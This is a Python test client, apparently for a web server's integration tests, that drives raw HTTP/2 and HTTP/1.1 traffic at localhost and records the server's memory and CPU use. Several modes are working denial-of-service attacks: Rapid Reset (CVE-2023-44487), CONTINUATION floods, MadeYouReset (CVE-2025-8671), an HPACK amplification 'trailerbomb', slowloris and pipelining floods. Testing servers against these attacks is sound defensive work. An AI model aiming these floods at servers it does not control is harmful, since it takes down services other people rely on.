#!/usr/bin/env python3
"""Raw clients for the site's integration tests (standard library only).

  h2_streams.py streams HOST PORT N PATH
      Open N HTTP/2 streams at once on one connection (one write, without
      waiting for the server's SETTINGS) and count what comes back.  Prints
      "advertised=A ok=O refused=R other=X".
  h2_streams.py slowloris HOST PORT INTERVAL MAX
      Send a request's headers one line every INTERVAL seconds over TLS and
      print "closed_after=S" when the server hangs up (or "open" after MAX s).
  h2_streams.py bigheader HOST PORT BYTES
      Send one HTTP/2 request with a header of BYTES bytes; print
      "reset" when the stream is reset or refused, or the :status.
  h2_streams.py pinger HOST PORT PATH INTERVAL MAX
      Open an HTTP/2 connection with SETTINGS_INITIAL_WINDOW_SIZE=0, ask for
      PATH (none when PATH is "-": an idle connection), then send a PING
      every INTERVAL seconds; print "closed_after=S" when the server hangs up
      (or "open" after MAX s).  A stalled or idle client that only pings.
  h2_streams.py trickle HOST PORT PATH STEP INTERVAL MAX
      Open an HTTP/2 connection with SETTINGS_INITIAL_WINDOW_SIZE=0, ask for
      PATH, then open the stream's (and the connection's) window by STEP
      bytes every INTERVAL seconds: a client that takes its answer STEP bytes
      at a time.  Prints "closed_after=S bytes=B" when the server hangs up,
      "done_after=S bytes=B" when the answer ends (END_STREAM), or
      "open bytes=B" after MAX s; B counts the answer's DATA bytes.
  h2_streams.py late HOST PORT PATH WAIT N GAP
      Complete the handshake (ALPN h2), send nothing for WAIT seconds, then
      the preface and N requests for PATH on the same connection, GAP
      seconds apart, each after the previous answer.  Prints one line per
      request, "status=S bytes=B sha256=H", then "settings=yes|no" (the
      server's SETTINGS came, first).
  h2_streams.py h2end HOST PORT SEQ PATH
      One HTTP/2 request for PATH whose END_STREAM comes as SEQ says:
      "empty" (HEADERS, then an empty DATA frame with END_STREAM),
      "head-empty" (the same for HEAD), "trailers" (HEADERS, then trailers
      with END_STREAM), "data" (HEADERS, then DATA "hello" with END_STREAM)
      or "clen" (HEADERS with content-length: 5 and no END_STREAM, nothing
      more).  Prints "status=S bytes=B" (B: DATA bytes of the answer),
      "reset" when the stream is reset before an answer, or "none" when
      nothing came for 5 s.
  h2_streams.py contsplit HOST PORT N
      One HTTP/2 request for /index.html whose header block is split into a
      HEADERS frame and N CONTINUATION frames (the last with END_HEADERS).
      Prints "status=S bytes=B" for an answer, or "goaway=CODE closed=C"
      when the server sends a GOAWAY (C: yes when it then closed the
      connection within 5 s, else no), or "none".
  h2_streams.py h1pipe HOST PORT SPEC...
      HTTP/1.1 over TLS (ALPN http/1.1).  Each SPEC is a request, "PATH",
      "PATH@FIRST-LAST" (a Range) or "HEAD:PATH"; the requests between two
      "|" go out in one write (pipelined), and each group's answers are read
      before the next group is sent.  The last request asks to close.
      Prints one line per answer, "status=S bytes=B sha256=H".
  h2_streams.py h1flood HOST PORT tls|plain N PATH LIMIT
      N pipelined "GET PATH HTTP/1.1" on one connection (HTTP/1.1 over TLS,
      or plain), all sent at once while the answers are read, for at most
      LIMIT seconds.  Prints "answers=A" and the count of each status, e.g.
      "answers=10000 200=10000" (fewer answers: the server went silent).
  h2_streams.py flood HOST PORT PID KIND N LIMIT
      Flood one HTTP/2 connection with N frame groups of KIND, sent while
      the answers are read, for at most LIMIT seconds: "rapidreset" (HEADERS
      with END_STREAM for /index.html, each followed at once by RST_STREAM
      CANCEL: CVE-2023-44487), "contgrow" (a HEADERS without END_HEADERS,
      then CONTINUATION frames each holding a 16,000-byte header field),
      "contempty" (the same with empty CONTINUATION frames: CVE-2024-27316
      class), "madeyoureset" (HEADERS with END_STREAM for /index.html, each
      followed by a WINDOW_UPDATE that overflows the stream's window, a
      stream error the server answers with RST_STREAM: CVE-2025-8671) or
      "madeyoureset-data" (the same with a DATA frame on the half-closed
      stream instead) or "trailerbomb" (a 4,000-byte field put into the
      HPACK table once, then per group a request without END_STREAM and
      its trailers: a HEADERS and 8 CONTINUATION frames each full of
      one-byte indexes naming that field, 147 KB naming 590 MB).  Prints "closed=yes|no sent=all|part goaway=CODE|none
      streams=S rss_kb=R cpu_ms=C resets=X": whether the server closed the
      connection, whether all N went out before it did, the GOAWAY's error
      code, the streams it took in (from the GOAWAY's last stream id), the
      most server process PID's VmRSS grew during the flood, the CPU
      time it spent on it and the RST_STREAM frames it sent.
  h2_streams.py resetby HOST PORT KIND ROUNDS
      Make the server reset streams the way nghttp2 1.52 does without
      telling the site: ROUNDS rounds of 100 requests for /index.html, each
      round sent once the previous one's resets came (so that at most 100
      streams are open).  KIND "settings": SETTINGS_INITIAL_WINDOW_SIZE is
      2^31-2, each request (END_STREAM) gets a WINDOW_UPDATE of 1, then a
      SETTINGS of 2^31-1 overflows all 100 windows at once (and one of
      2^31-2 follows); "clen": each request says content-length: 1 and
      sends 2 bytes of DATA.  Prints "streams=S resets=R goaway=CODE|none
      closed=yes|no" (R: RST_STREAM frames read).
  h2_streams.py halfopen HOST PORT PID CONNS REFS
      Open CONNS HTTP/2 connections, each with 99 requests that never end
      (HEADERS without END_STREAM) naming a 4,000-byte "range" header REFS
      times: sent once into the HPACK table, then named by its index (one
      byte each), and one GET for /index.html.  Prints "answered=A reset=R rss_kb=G":
      the GETs answered 200, the streams the server reset, and how much
      server process PID's VmRSS grew while the connections are open.
  h2_streams.py fields HOST PORT NAME=VALUE...
      One HTTP/2 request made of exactly the fields given, in order (e.g.
      ":method=CONNECT" ":authority=localhost:443": a CONNECT, RFC 9113
      8.5, with no :scheme or :path).  Prints "status=S allow=A" (A: the
      answer's allow field, "-" without one), "reset=CODE" when the stream
      is reset first, or "none"; then "enable_connect_protocol=V" (the
      server's SETTINGS value, "-" when not sent).  Needs python3-hpack
      (Debian's /usr/bin/python3) to read the answer's fields.
  h2_streams.py burst HOST PORT PID N PATH [CMD...]
      Open N HTTP/1.1 connections (handshake and one request each), run
      CMD if given (and wait a second), stop the server process PID
      (SIGSTOP), send one request for PATH on each, and let it go on
      (SIGCONT): its worker finds all N ready at once.  Prints
      "answered=A of N" (status 200, non-empty bodies).
  h2_streams.py halfclose HOST PORT PID tls|plain fin|notify|none SPEC...
      One connection (HTTP/1.1 over TLS, or plain: the first SPEC is asked
      and answered once before, so that it is accepted); the server process PID
      is stopped (SIGSTOP) while the requests (SPECs as for h1pipe, none
      asking to close) go out in one write followed by the half-close:
      "fin" shuts the client's sending side (a TCP FIN, no close_notify),
      "notify" sends a TLS close_notify only, "none" neither.  Then the
      server goes on (SIGCONT), finding requests and end together, and the
      client reads for at most 10 s.  Prints one line per answer,
      "status=S bytes=B sha256=H", then "answers=A of N closed=yes|no"
      (closed: the server ended the connection).
"""
import hashlib
import os
import select
import signal
import socket
import ssl
import struct
import subprocess
import sys
import time


def tls(host, port, alpn):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    if alpn:
        ctx.set_alpn_protocols(alpn)
    s = socket.create_connection((host, port), timeout=5)
    return ctx.wrap_socket(s, server_hostname="localhost")


def frame(ftype, flags, sid, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload


def hpack_literal(name_index, value):
    # literal header field without indexing, indexed name (4-bit prefix)
    v = value.encode()
    assert name_index < 15 and len(v) < 127
    return bytes([name_index, len(v)]) + v


def request_block(path, extra=b""):
    # :method GET (2), :scheme https (7), :path literal (4), :authority literal (1)
    return b"\x82\x87" + hpack_literal(4, path) + hpack_literal(1, "localhost") + extra


def split_frames(buf):
    """The whole frames at the start of buf, as (type, flags, stream id,
    payload), and the bytes after them."""
    frames = []
    while len(buf) >= 9:
        length = struct.unpack(">I", b"\0" + buf[:3])[0]
        if len(buf) < 9 + length:
            break
        sid = struct.unpack(">I", buf[5:9])[0] & 0x7FFFFFFF
        frames.append((buf[3], buf[4], sid, buf[9:9 + length]))
        buf = buf[9 + length:]
    return frames, buf


def read_frames(sock, until, deadline):
    buf = b""
    while time.time() < deadline:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        except (ssl.SSLError, OSError):
            return
        if not data:
            return
        frames, buf = split_frames(buf + data)
        for f in frames:
            if until(*f):
                return


def literal_new(name, value):
    # literal header field without indexing, new name (short strings only)
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


# HPACK Huffman codes of the digits (RFC 7541 Appendix B), for :status
HUFF_DIGITS = {"00000": "0", "00001": "1", "00010": "2", "011001": "3", "011010": "4",
               "011011": "5", "011100": "6", "011101": "7", "011110": "8", "011111": "9"}


def response_status(block):
    """The :status of a response header block (the server sends it first)."""
    static = {8: "200", 9: "204", 10: "206", 11: "304", 12: "400", 13: "404", 14: "500"}
    if block[0] & 0x80:
        return static.get(block[0] & 0x7F, "?")
    # a literal with :status's name (indexed 8..14), incremental or not
    if block[0] & 0x40:
        idx = block[0] & 0x3F
    else:
        idx = block[0] & 0x0F
    if idx not in static:
        return "?"
    n, value = block[1] & 0x7F, block[2:2 + (block[1] & 0x7F)]
    if not block[1] & 0x80:
        return value.decode()
    bits, out, cur = "".join("{:08b}".format(b) for b in value), "", ""
    for bit in bits:
        cur += bit
        if cur in HUFF_DIGITS:
            out += HUFF_DIGITS[cur]
            cur = ""
    return out


def read_answer(s):
    """Stream 1's answer, read for 5 s at most: its :status, DATA bytes,
    whether it was reset, and the error code of a GOAWAY (reading stops at
    a reset or a GOAWAY)."""
    st = {"status": None, "bytes": 0, "reset": False, "goaway": None}

    def until(ftype, flags, sid, payload):
        if ftype == 7:
            st["goaway"] = struct.unpack(">I", payload[4:8])[0]
            return True
        if sid != 1:
            return False
        if ftype == 1:
            st["status"] = response_status(payload)
        elif ftype == 0:
            st["bytes"] += len(payload)
        elif ftype == 3:
            st["reset"] = True
            return True
        return bool(flags & 1)

    read_frames(s, until, time.time() + 5)
    return st


def h2end(host, port, seq, path):
    s = tls(host, port, ["h2"])
    if s.selected_alpn_protocol() != "h2":
        print("no h2")
        return 1
    block = request_block(path)
    if seq == "head-empty":
        block = b"\x42\x04HEAD" + block[1:]  # :method literal (name index 2)
    if seq == "clen":
        block += literal_new(b"content-length", b"5")
    out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
    out += frame(1, 0x4, 1, block)  # END_HEADERS, not END_STREAM
    if seq in ("empty", "head-empty"):
        out += frame(0, 0x1, 1, b"")
    elif seq == "trailers":
        out += frame(1, 0x5, 1, literal_new(b"x-trailer", b"1"))
    elif seq == "data":
        out += frame(0, 0x1, 1, b"hello")
    s.sendall(out)
    st = read_answer(s)
    if st["status"]:
        print("status=%s bytes=%d" % (st["status"], st["bytes"]))
    else:
        print("reset" if st["reset"] else "none")
    return 0


def contsplit(host, port, n):
    s = tls(host, port, ["h2"])
    if s.selected_alpn_protocol() != "h2":
        print("no h2")
        return 1
    block = request_block("/index.html")
    cut = [len(block) * i // (n + 1) for i in range(n + 2)]
    parts = [block[cut[i]:cut[i + 1]] for i in range(n + 1)]
    out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
    out += frame(1, 0x1 | (0x4 if n == 0 else 0), 1, parts[0])  # END_STREAM
    for i, part in enumerate(parts[1:]):
        out += frame(9, 0x4 if i == n - 1 else 0, 1, part)
    s.sendall(out)
    st = read_answer(s)
    if st["goaway"] is not None:
        # the server should close after its GOAWAY: EOF (or a reset) within 5 s
        closed = "no"
        s.settimeout(0.5)
        end = time.time() + 5
        while time.time() < end:
            try:
                if not s.recv(65536):
                    closed = "yes"
                    break
            except socket.timeout:
                continue
            except (ssl.SSLError, OSError):
                closed = "yes"
                break
        print("goaway=%d closed=%s" % (st["goaway"], closed))
    elif st["status"]:
        print("status=%s bytes=%d" % (st["status"], st["bytes"]))
    else:
        print("none")
    return 0


def streams(host, port, n, path):
    s = tls(host, port, ["h2"])
    if s.selected_alpn_protocol() != "h2":
        print("no h2")
        return 1
    out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
    # a large connection window so that bodies never stall
    out += frame(8, 0, 0, struct.pack(">I", 1 << 30))
    for i in range(n):
        out += frame(1, 0x5, 1 + 2 * i, request_block(path))
    s.sendall(out)
    st = {"advertised": -1, "ok": 0, "refused": 0, "other": 0}
    done = set()

    def until(ftype, flags, sid, payload):
        if ftype == 4 and not flags & 1:
            for i in range(0, len(payload), 6):
                k, v = struct.unpack(">HI", payload[i:i + 6])
                if k == 3:
                    st["advertised"] = v
        elif ftype == 1 and sid not in done:
            done.add(sid)
            if payload[:1] == b"\x88":
                st["ok"] += 1
            else:
                st["other"] += 1
        elif ftype == 3 and sid not in done:
            done.add(sid)
            code = struct.unpack(">I", payload[:4])[0]
            st["refused" if code == 7 else "other"] += 1
        return len(done) >= n

    read_frames(s, until, time.time() + 10)
    print("advertised=%d ok=%d refused=%d other=%d" % (st["advertised"], st["ok"], st["refused"], st["other"]))
    return 0


def slowloris(host, port, interval, maximum):
    s = tls(host, port, ["http/1.1"])
    s.settimeout(0.2)
    start = time.time()
    lines = [b"GET / HTTP/1.1\r\n", b"Host: localhost\r\n"] + [b"X-a%d: b\r\n" % i for i in range(10000)]
    nxt = 0.0
    i = 0
    while time.time() - start < maximum:
        if time.time() - start >= nxt:
            try:
                s.sendall(lines[i])
            except (OSError, ssl.SSLError):
                print("closed_after=%.1f" % (time.time() - start))
                return 0
            i += 1
            nxt += interval
        try:
            data = s.recv(4096)
            if not data:
                print("closed_after=%.1f" % (time.time() - start))
                return 0
        except socket.timeout:
            pass
        except (OSError, ssl.SSLError):
            print("closed_after=%.1f" % (time.time() - start))
            return 0
    print("open")
    return 0


def bigheader(host, port, size):
    s = tls(host, port, ["h2"])
    v = b"a" * size
    # literal without indexing, new name "x-big" (7-bit length prefixes, multi-byte)
    def hlen(n, prefix_bits=7):
        mx = (1 << prefix_bits) - 1
        if n < mx:
            return bytes([n])
        out = [mx]
        n -= mx
        while n >= 128:
            out.append((n % 128) + 128)
            n //= 128
        out.append(n)
        return bytes(out)
    extra = b"\x00" + hlen(5) + b"x-big" + hlen(len(v)) + v
    block = request_block("/", extra)
    out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
    # split into HEADERS + CONTINUATION frames of 16384 bytes
    chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    for i, c in enumerate(chunks):
        last = i == len(chunks) - 1
        if i == 0:
            out += frame(1, 0x1 | (0x4 if last else 0), 1, c)
        else:
            out += frame(9, 0x4 if last else 0, 1, c)
    s.sendall(out)
    res = {"r": "none"}

    def until(ftype, flags, sid, payload):
        if sid == 1 and ftype == 1:
            res["r"] = "status" + ("200" if payload[:1] == b"\x88" else "?")
            return True
        if (sid == 1 and ftype == 3) or ftype == 7:
            res["r"] = "reset"
            return True
        return False

    read_frames(s, until, time.time() + 5)
    print(res["r"])
    return 0


def pinger(host, port, path, interval, maximum):
    s = tls(host, port, ["h2"])
    # SETTINGS_INITIAL_WINDOW_SIZE (4) = 0: no DATA may ever flow
    out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, struct.pack(">HI", 4, 0))
    if path != "-":
        out += frame(1, 0x5, 1, request_block(path))
    s.sendall(out)
    s.settimeout(0.2)
    start = time.time()
    nxt = interval
    while time.time() - start < maximum:
        if time.time() - start >= nxt:
            nxt += interval
            try:
                s.sendall(frame(6, 0, 0, b"12345678"))
            except (OSError, ssl.SSLError):
                break
        try:
            if not s.recv(65536):
                break
        except socket.timeout:
            pass
        except (OSError, ssl.SSLError):
            break
    else:
        print("open")
        return 0
    print("closed_after=%.1f" % (time.time() - start))
    return 0


def trickle(host, port, path, step, interval, maximum):
    s = tls(host, port, ["h2"])
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, struct.pack(">HI", 4, 0)) +
              frame(1, 0x5, 1, request_block(path)))
    s.settimeout(0.1)
    st = {"bytes": 0, "end": False, "closed": False}
    buf = b""
    start = time.time()
    nxt = 0.0
    while time.time() - start < maximum and not st["end"]:
        if time.time() - start >= nxt:
            nxt += interval
            inc = struct.pack(">I", step)
            try:
                s.sendall(frame(8, 0, 1, inc) + frame(8, 0, 0, inc))
            except (OSError, ssl.SSLError):
                st["closed"] = True
                break
        try:
            data = s.recv(65536)
        except socket.timeout:
            continue
        except (OSError, ssl.SSLError):
            data = b""
        if not data:
            st["closed"] = True
            break
        frames, buf = split_frames(buf + data)
        for ftype, flags, sid, payload in frames:
            if sid == 1 and ftype == 0:
                st["bytes"] += len(payload)
            if sid == 1 and ftype in (0, 1) and flags & 1:
                st["end"] = True
    took = time.time() - start
    if st["end"]:
        print("done_after=%.1f bytes=%d" % (took, st["bytes"]))
    elif st["closed"]:
        print("closed_after=%.1f bytes=%d" % (took, st["bytes"]))
    else:
        print("open bytes=%d" % st["bytes"])
    return 0


def late(host, port, path, wait, n, gap):
    s = tls(host, port, ["h2"])
    if s.selected_alpn_protocol() != "h2":
        print("no h2")
        return 1
    time.sleep(wait)
    s.settimeout(0.2)
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") +
              frame(8, 0, 0, struct.pack(">I", 1 << 30)))
    first = []
    for i in range(n):
        if i:
            time.sleep(gap)
        sid = 1 + 2 * i
        s.sendall(frame(1, 0x5, sid, request_block(path)))
        st = {"status": "-", "body": b""}

        def until(ftype, flags, fsid, payload):
            if not first:
                first.append(ftype)
            if ftype == 4 and not flags & 1:
                s.sendall(frame(4, 1, 0, b""))  # SETTINGS ACK
            if fsid != sid:
                return False
            if ftype == 1:
                # indexed :status 200 (0x88) or 304/404... as a literal
                st["status"] = "200" if payload[:1] == b"\x88" else "other"
            elif ftype == 0:
                st["body"] += payload
            elif ftype == 3:
                st["status"] = "reset"
                return True
            return bool(flags & 1)

        read_frames(s, until, time.time() + 10)
        print("status=%s bytes=%d sha256=%s" % (st["status"], len(st["body"]),
                                                hashlib.sha256(st["body"]).hexdigest()))
    print("settings=%s" % ("yes" if first[:1] == [4] else "no"))
    return 0


def h1_request(spec, last):
    method, path, extra = "GET", spec, ""
    if spec.startswith("HEAD:"):
        method, path = "HEAD", spec[5:]
    if "@" in path:
        path, rng = path.split("@", 1)
        extra = "Range: bytes=%s\r\n" % rng
    if last:
        extra += "Connection: close\r\n"
    return ("%s %s HTTP/1.1\r\nHost: localhost\r\n%s\r\n" % (method, path, extra)).encode(), method


def h1_answer(buf, method):
    """One answer parsed off the front of buf: (status, body, rest) or None."""
    end = buf.find(b"\r\n\r\n")
    if end < 0:
        return None
    head = buf[:end].decode("latin-1").split("\r\n")
    length = 0
    for line in head[1:]:
        name, _, value = line.partition(":")
        if name.strip().lower() == "content-length":
            length = int(value.strip())
    if method == "HEAD" or head[0].split()[1] in ("204", "304"):
        length = 0
    if len(buf) < end + 4 + length:
        return None
    return head[0].split()[1], buf[end + 4:end + 4 + length], buf[end + 4 + length:]


def h1_read_answer(sock, buf, method):
    """Receive until buf holds a whole answer: (status, body, rest), or None at EOF."""
    while True:
        got = h1_answer(buf, method)
        if got:
            return got
        data = sock.recv(65536)
        if not data:
            return None
        buf += data


def h1pipe(host, port, specs):
    s = tls(host, port, ["http/1.1"])
    s.settimeout(10)
    groups, cur = [], []
    for spec in specs:
        if spec == "|":
            groups.append(cur)
            cur = []
        else:
            cur.append(spec)
    groups.append(cur)
    buf = b""
    for gi, group in enumerate(groups):
        reqs = [h1_request(spec, gi == len(groups) - 1 and i == len(group) - 1)
                for i, spec in enumerate(group)]
        s.sendall(b"".join(r[0] for r in reqs))
        for _, method in reqs:
            got = h1_read_answer(s, buf, method)
            if not got:
                print("eof")
                return 1
            status, body, buf = got
            print("status=%s bytes=%d sha256=%s" % (status, len(body), hashlib.sha256(body).hexdigest()))
    return 0


def h1flood(host, port, scheme, n, path, limit):
    if scheme == "tls":
        s = tls(host, port, ["http/1.1"])
    else:
        s = socket.create_connection((host, port), timeout=5)
    out = ("GET %s HTTP/1.1\r\nHost: localhost\r\n\r\n" % path).encode() * n
    s.setblocking(False)
    # Sending and reading at once: a client that wrote everything before
    # reading could deadlock with a server that stops reading while its
    # answers wait (back-pressure), whatever the server does right.
    blocked = (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError)
    deadline = time.time() + limit
    sent, buf, answers, statuses = 0, b"", 0, {}
    while answers < n:
        busy = False
        if sent < len(out):
            try:
                # after a would-block, the same bytes again (OpenSSL's rule)
                k = s.send(out[sent:])
                sent += k
                busy = k > 0
            except blocked:
                pass
        try:
            data = s.recv(262144)
        except blocked:
            data = None
        except (OSError, ssl.SSLError):
            break
        if data == b"":
            break
        if data:
            busy = True
            buf += data
            while True:
                got = h1_answer(buf, "GET")
                if not got:
                    break
                status, _, buf = got
                answers += 1
                statuses[status] = statuses.get(status, 0) + 1
        if not busy:
            if time.time() >= deadline:
                break
            select.select([s], [s] if sent < len(out) else [], [], 0.2)
    print(" ".join(["answers=%d" % answers] + ["%s=%d" % kv for kv in sorted(statuses.items())]))
    return 0


def proc_rss_kb(pid):
    with open("/proc/%d/status" % pid) as f:
        return int([l for l in f if l.startswith("VmRSS:")][0].split()[1])


def proc_cpu_ms(pid):
    with open("/proc/%d/stat" % pid) as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) * 1000 // os.sysconf("SC_CLK_TCK")


def flood_frames(kind, n):
    """The flood's bytes, a group of frames at a time."""
    if kind == "rapidreset":
        block = request_block("/index.html")
        for i in range(n):
            sid = 1 + 2 * i
            yield frame(1, 0x5, sid, block) + frame(3, 0, sid, struct.pack(">I", 8))
        return
    if kind in ("madeyoureset", "madeyoureset-data"):
        block = request_block("/index.html")
        for i in range(n):
            sid = 1 + 2 * i
            if kind == "madeyoureset":
                bad = frame(8, 0, sid, struct.pack(">I", 0x7fffffff))
            else:
                bad = frame(0, 0, sid, b"x")
            yield frame(1, 0x5, sid, block) + bad
        return
    if kind == "trailerbomb":
        # literal with incremental indexing, new name "x-a", 4000 bytes
        # (0x7f, then 0xa1 0x1e): dynamic table entry 62 (0xbe)
        yield frame(1, 0x5, 1, request_block("/") + b"\x40\x03x-a\x7f\xa1\x1e" + b"a" * 4000)
        for i in range(1, n + 1):
            sid = 1 + 2 * i
            group = frame(1, 0x4, sid, request_block("/"))  # END_HEADERS only
            group += frame(1, 0x1, sid, b"\xbe" * 16384)  # trailers: END_STREAM only
            for k in range(8):
                group += frame(9, 0x4 if k == 7 else 0, sid, b"\xbe" * 16384)
            yield group
        return
    yield frame(1, 0x1, 1, request_block("/"))  # END_STREAM, no END_HEADERS
    # literal without indexing, new name "x-big", 16,000-byte value (length
    # 16000 = 127 + 15873: 7-bit prefix, then 0x81 0x7c)
    field = b"\x00\x05x-big\x7f\x81\x7c" + b"a" * 16000
    payload = field if kind == "contgrow" else b""
    for _ in range(n):
        yield frame(9, 0, 1, payload)


def frames_now(s, st):
    """The whole frames non-blocking socket s has for us now (st["buf"]
    keeps a partial one); st["closed"] becomes True at its end."""
    out = []
    while not st["closed"]:
        try:
            data = s.recv(65536)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            break
        except (ssl.SSLError, OSError):
            data = b""
        if not data:
            st["closed"] = True
            break
        frames, st["buf"] = split_frames(st["buf"] + data)
        out += frames
    return out


def flood(host, port, pid, kind, n, limit):
    s = tls(host, port, ["h2"])
    if s.selected_alpn_protocol() != "h2":
        print("no h2")
        return 1
    rss0, cpu0 = proc_rss_kb(pid), proc_cpu_ms(pid)
    peak = rss0
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
    s.setblocking(False)
    st = {"closed": False, "goaway": None, "buf": b"", "resets": 0}

    def pump():
        # read what the server sent; note a GOAWAY, the RST_STREAMs and the end
        for ftype, _, _, payload in frames_now(s, st):
            if ftype == 7 and st["goaway"] is None:
                st["goaway"] = struct.unpack(">II", payload[:8])
            elif ftype == 3:
                st["resets"] += 1

    start = time.time()
    frames = flood_frames(kind, n)
    pending, done = b"", False
    while not st["closed"] and time.time() - start < limit:
        parts, size = [pending], len(pending)
        while not done and size < 65536:
            try:
                parts.append(next(frames))
                size += len(parts[-1])
            except StopIteration:
                done = True
        pending = b"".join(parts)
        if not pending:
            break
        try:
            pending = pending[s.send(pending[:16384]):]
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            select.select([s], [s], [], 0.05)
        except (ssl.SSLError, OSError):
            break  # reset by the server: what it sent first is still to read
        pump()
        peak = max(peak, proc_rss_kb(pid))
    sent_all = done and not pending
    # Read what is left (the GOAWAY may come before the reset that stopped
    # the sending); when all went out, the server has 3 s to answer or close.
    end = time.time() + 3
    while not st["closed"] and time.time() < end:
        select.select([s], [], [], 0.1)
        pump()
    peak = max(peak, proc_rss_kb(pid))
    g = st["goaway"]
    print("closed=%s sent=%s goaway=%s streams=%s rss_kb=%d cpu_ms=%d resets=%d" % (
        "yes" if st["closed"] else "no", "all" if sent_all else "part",
        g[1] if g else "none", (g[0] + 1) // 2 if g else "-", peak - rss0,
        proc_cpu_ms(pid) - cpu0, st["resets"]))
    return 0


def resetby(host, port, kind, rounds):
    s = tls(host, port, ["h2"])
    top = 0x7FFFFFFF

    def window(v):
        return frame(4, 0, 0, struct.pack(">HI", 4, v))

    # the server's SETTINGS acknowledged at once: its stream limit holds
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + window(top - 1) + frame(4, 1, 0, b""))
    s.setblocking(False)
    st = {"resets": 0, "answers": 0, "goaway": None, "closed": False, "buf": b""}

    def pump():
        for ftype, _, _, payload in frames_now(s, st):
            if ftype == 3:
                st["resets"] += 1
            elif ftype == 1:
                st["answers"] += 1
            elif ftype == 7 and st["goaway"] is None:
                st["goaway"] = struct.unpack(">I", payload[4:8])[0]

    sid = 1
    for r in range(rounds):
        ids = [sid + 2 * i for i in range(100)]
        sid += 200
        if kind == "settings":
            out = b"".join(frame(1, 0x5, i, request_block("/index.html")) for i in ids)
            out += b"".join(frame(8, 0, i, struct.pack(">I", 1)) for i in ids)
            out += window(top) + window(top - 1)
        else:
            # content-length (static index 28): 1, then 2 bytes of DATA
            out = b"".join(frame(1, 0x4, i, request_block("/index.html", b"\x0f\x0d\x011")) +
                           frame(0, 0, i, b"xx") for i in ids)
        while out and not st["closed"]:
            try:
                out = out[s.send(out[:16384]):]
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                select.select([s], [s], [], 0.05)
            except (ssl.SSLError, OSError):
                st["closed"] = True
            pump()
        end = time.time() + 5
        while (st["resets"] + st["answers"] < (r + 1) * 100 and st["goaway"] is None and
               not st["closed"] and time.time() < end):
            select.select([s], [], [], 0.05)
            pump()
        if st["goaway"] is not None or st["closed"]:
            break
    end = time.time() + 3
    while not st["closed"] and time.time() < end:
        select.select([s], [], [], 0.1)
        pump()
    print("streams=%d resets=%d goaway=%s closed=%s" % (
        (sid - 1) // 2, st["resets"], "none" if st["goaway"] is None else st["goaway"],
        "yes" if st["closed"] else "no"))
    return 0


def halfopen(host, port, pid, conns, refs):
    rss0 = proc_rss_kb(pid)
    base = b"\x82\x87" + hpack_literal(4, "/") + hpack_literal(1, "localhost")
    # literal with incremental indexing, new name "range", 4000 bytes (4000
    # = 127 + 3873: 0x7f, then 0xa1 0x1e); it becomes dynamic entry 62 (0xbe)
    first = base + b"\x40\x05range\x7f\xa1\x1e" + b"b" * 4000
    socks = []
    for _ in range(conns):
        s = tls(host, port, ["h2"])
        out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
        out += frame(1, 0x4, 1, first)
        for i in range(1, 99):
            out += frame(1, 0x4, 1 + 2 * i, base + b"\xbe" * refs)
        out += frame(1, 0x5, 199, request_block("/index.html"))
        s.sendall(out)
        socks.append(s)
    st = {"answered": 0, "reset": 0}

    def until(ftype, flags, sid, payload):
        if ftype == 3:
            st["reset"] += 1
        if ftype == 1 and sid == 199:
            st["answered"] += response_status(payload) == "200"
            return True
        return ftype == 7

    for s in socks:
        read_frames(s, until, time.time() + 5)
    print("answered=%d reset=%d rss_kb=%d" % (st["answered"], st["reset"], proc_rss_kb(pid) - rss0))
    return 0


def stop_process(pid):
    """SIGSTOP pid, and wait (at most 2 s) until every thread of it is stopped (state T)."""
    os.kill(pid, signal.SIGSTOP)
    for _ in range(200):
        states = []
        for t in os.listdir("/proc/%d/task" % pid):
            with open("/proc/%d/task/%s/stat" % (pid, t)) as f:
                states.append(f.read().rsplit(")", 1)[1].split()[0])
        if all(st == "T" for st in states):
            return
        time.sleep(0.01)


def halfclose(host, port, pid, scheme, how, specs):
    s = socket.create_connection((host, port), timeout=10)
    obj = None
    if scheme == "tls":
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["http/1.1"])
        inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
        obj = ctx.wrap_bio(inc, out, server_hostname="localhost")
        while True:
            try:
                obj.do_handshake()
                break
            except ssl.SSLWantReadError:
                s.sendall(out.read())
                data = s.recv(65536)
                if not data:
                    print("handshake eof")
                    return 1
                inc.write(data)
        s.sendall(out.read())
    else:
        # One request answered first: the connection is then accepted and
        # idle, as the handshake leaves a TLS one, before the server stops.
        s.sendall(h1_request(specs[0], False)[0])
        if not h1_read_answer(s, b"", "GET"):
            print("no first answer")
            return 1
    reqs = [h1_request(spec, False) for spec in specs]
    # Stopped, the server reads the requests and the half-close in one go
